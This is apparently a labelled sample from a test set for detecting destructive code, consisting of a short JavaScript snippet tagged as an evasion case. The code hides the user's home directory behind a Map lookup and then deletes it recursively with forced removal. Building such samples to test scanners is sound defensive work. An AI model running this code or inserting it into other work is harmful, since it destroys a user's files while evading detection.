// evasion: the home directory kept in a Map under a key, removed through map.get(key)
// grade: medium; does: delete
const m = new Map();
m.set('t', require('os').homedir());
require('fs').rmSync(m.get('t'), { recursive: true, force: true });
